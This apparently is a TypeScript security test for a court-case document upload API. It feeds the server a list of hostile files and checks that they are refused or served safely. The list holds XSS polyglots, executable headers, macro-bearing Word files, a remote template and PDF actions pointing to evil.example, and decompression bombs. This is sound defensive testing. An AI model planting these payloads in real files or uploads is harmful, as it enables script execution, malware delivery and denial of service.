import XLSX from 'xlsx'
import { jpegBytes, pdfBytes, pngBytes, upload } from '../support/upload'
import { zipBytes } from '../support/zip'
import { row } from './row'
import { adminOf, newCase } from './ways'

const MEBI = 1024 * 1024
const CATEGORY = 'DEMANDA_INTERPUESTA'
const part = (name: string, bytes: Buffer | string = '<w/>') => ({ name, bytes })
const word = (...more: ReturnType<typeof part>[]) =>
  zipBytes([part('[Content_Types].xml'), part('word/document.xml'), ...more])
const html = Buffer.from('<html><script>alert(1)</script></html>')

function compound(streams: Record<string, Buffer>): Buffer {
  const container = XLSX.CFB.utils.cfb_new()
  for (const [path, bytes] of Object.entries(streams)) XLSX.CFB.utils.cfb_add(container, path, bytes)
  return Buffer.from(XLSX.CFB.write(container, { type: 'buffer' }) as Uint8Array)
}
const VBA_RELATION =
  '<Relationships><Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/></Relationships>'
const oldWord = Buffer.alloc(4096)
oldWord.writeUInt16LE(0xa5ec, 0)

/** A directory that leads back to its own beginning. */
function loop(): Buffer {
  const file = compound({ '/WordDocument': oldWord })
  const first = file.readUInt32LE(48)
  file.writeUInt32LE(first, (file.readUInt32LE(76) + 1) * 512 + first * 4)
  return file
}

type Made = Buffer | string | Promise<Buffer>
type Kind = { name: string; bytes: Buffer; refused: boolean }
const refused = async (name: string, bytes: Made): Promise<Kind> => ({
  name,
  bytes: Buffer.from(await bytes),
  refused: true,
})
/** May be accepted: it is then served as a file of its own type, which no browser runs. */
const harmless = async (name: string, bytes: Made): Promise<Kind> => ({
  name,
  bytes: Buffer.from(await bytes),
  refused: false,
})

const KINDS: (() => Promise<Kind>)[] = [
  () => refused('dibujo.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  () => refused('pagina.pdf', html),
  () => refused('programa.pdf', 'MZ\x90\x00'),
  () => refused('elf.pdf', '\x7fELF'),
  () => refused('guion.pdf', '#!/bin/sh\nid\n'),
  () => refused('gif.jpg', 'GIF89a<script>alert(1)</script>'),
  () => refused('firma.png', Buffer.concat([pngBytes(1, 1).subarray(0, 8), html])),
  () => refused('firma.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), html])),
  () => refused('carta.pdf', Buffer.concat([html, Buffer.alloc(2000, 32), pdfBytes('x')])),
  () => refused('carta.html', pdfBytes('x')),
  () => refused('carta.docm', word()),
  () => refused('macros.docx', word(part('word/vbaProject.bin', 'x'))),
  () => refused('macros2.docx', word(part('word/VbaProject.BIN', 'x'))),
  () =>
    refused(
      'macros3.docx',
      zipBytes([
        part(
          '[Content_Types].xml',
          '<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        part('word/document.xml'),
      ]),
    ),
  () => refused('macros.doc', compound({ '/WordDocument': oldWord, '/MACROS/vba/dir': Buffer.alloc(100) })),
  () =>
    refused(
      'plantilla.docx',
      word(
        part(
          'word/_rels/settings.xml.rels',
          '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        ),
      ),
    ),
  () => refused('bomba.docx', word(part('word/media/a.emf', Buffer.alloc(200 * MEBI)))),
  () =>
    refused(
      'mentira.docx',
      word({ ...part('word/media/a.emf', Buffer.alloc(60 * MEBI)), claimedSize: 10 } as never),
    ),
  () => refused('macros4.docx', word(part('word/_rels/document.xml.rels', VBA_RELATION), part('word/a.bin'))),
  () =>
    refused(
      'macros2.doc',
      compound({ '/WordDocument': oldWord, '/_vba_project_cur/dir': Buffer.alloc(100) }),
    ),
  () =>
    refused('muchos.docx', word(...Array.from({ length: 50_000 }, (_, n) => part(`word/media/${n}`, '')))),
  () => refused('vuelta.doc', loop()),
  async () => refused('medio.docx', (await word()).subarray(0, 60)),
  () => refused('hoja.docx', zipBytes([part('xl/workbook.xml')])),
  () => refused('programa.docx', zipBytes([part('a.exe', 'MZ')])),
  () => refused('bomba.png', pngBytes(0x7fffffff, 0x7fffffff)),
  () => refused('bomba.jpg', jpegBytes(65_000, 65_000)),
  () => refused('vacio.pdf', ''),
  () =>
    refused(
      'cifrada.docx',
      compound({ '/EncryptionInfo': Buffer.alloc(100), '/EncryptedPackage': Buffer.alloc(5000) }),
    ),
  () => harmless('poliglota.pdf', Buffer.concat([pdfBytes('x'), html])),
  async () =>
    harmless('poliglota2.pdf', Buffer.concat([pdfBytes('x'), await zipBytes([part('a.exe', 'MZ')])])),
  () => harmless('dentro.pdf', pdfBytes('1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj')),
  () => harmless('abre.pdf', pdfBytes('1 0 obj <</OpenAction<</S/URI/URI(http://evil.example)>>>> endobj')),
  () => harmless('poliglota.png', Buffer.concat([pngBytes(10, 10), html])),
  () => harmless('poliglota.jpg', Buffer.concat([jpegBytes(10, 10), html])),
  () => harmless('exif.jpg', jpegBytes(10, 10, 60_000)),
  () => harmless('obj.pdf', pdfBytes('x'.repeat(100) + '/Encrypt '.repeat(200_000))),
  () => harmless('paren.pdf', pdfBytes('('.repeat(3_000_000))),
  () => harmless('dict.pdf', pdfBytes('<<'.repeat(1_500_000))),
  () => harmless('xref.pdf', pdfBytes(`${'xref\n0 1\n'.repeat(300_000)}startxref\n0`)),
]

row('types of documents', async ({ portal, world, hold, isOver, tally }) => {
  const { id } = newCase()
  const admin = adminOf({ portal, world })
  for (const make of KINDS) {
    if (isOver()) tally.whole = false
    if (isOver()) break
    const { name, bytes, refused } = await make()
    const began = Date.now()
    const answer = await upload(admin, { bytes, name }, { category: CATEGORY, caseId: String(id) })
    const tookMs = Date.now() - began
    if (tookMs > tally.slowestMs) Object.assign(tally, { slowestMs: tookMs, slowest: name })
    hold(answer.status < 500 && !(refused && answer.status === 200), `${name}: ${answer.status}`)
    if (answer.status !== 200) continue
    const { documentId } = (await answer.json()) as { documentId: number }
    for (const path of [
      `/api/documents/${documentId}/download`,
      `/api/documents/${documentId}/download?inline=1`,
    ]) {
      const out = await admin.get(path)
      await out.body?.cancel()
      const shown = (header: string) => out.headers.get(header) ?? ''
      const isFile =
        /^attachment/.test(shown('Content-Disposition')) ||
        /^default-src 'none'/.test(shown('Content-Security-Policy'))
      hold(
        isFile && shown('X-Content-Type-Options') === 'nosniff',
        `${name} leaves as ${shown('Content-Disposition')}`,
      )
      hold(
        /^(?:application\/(?:pdf|msword|vnd\.openxml.*)|image\/(?:png|jpeg))$/.test(shown('Content-Type')),
        `${name} leaves as ${shown('Content-Type')}`,
      )
    }
  }
})
